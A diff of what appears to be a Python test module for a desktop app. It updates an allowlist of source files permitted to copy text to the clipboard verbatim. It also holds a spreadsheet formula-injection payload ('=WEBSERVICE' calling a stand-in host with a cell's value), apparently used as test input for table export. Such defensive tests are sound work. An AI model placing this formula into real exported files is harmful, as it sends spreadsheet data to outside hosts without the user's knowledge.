@@ -19,9 +19,10 @@ from relay.shared.rosters import harmless_lines, table_csv, table_text
 TREE = Path(__file__).parents[2]
 FORMULA = '=WEBSERVICE("http://x/"&B2)&'
 EXACTLY = {
+    "desktop/features/admission/card.py": "the lesson's link, made by the program",
     "desktop/features/chat/view.py": "one message or one web address that was asked for",
     "desktop/pages/details/unsent.py": "one's own message that was not sent",
-    "desktop/pages/joining/card.py": "the lesson's link, made by the program",
+    "desktop/pages/joining/how.py": "the lesson's link, made by the program",
     "desktop/pages/settings/page.py": "a folder of this computer",
 }
 """Where a text goes onto the clipboard as it is, and why it may."""
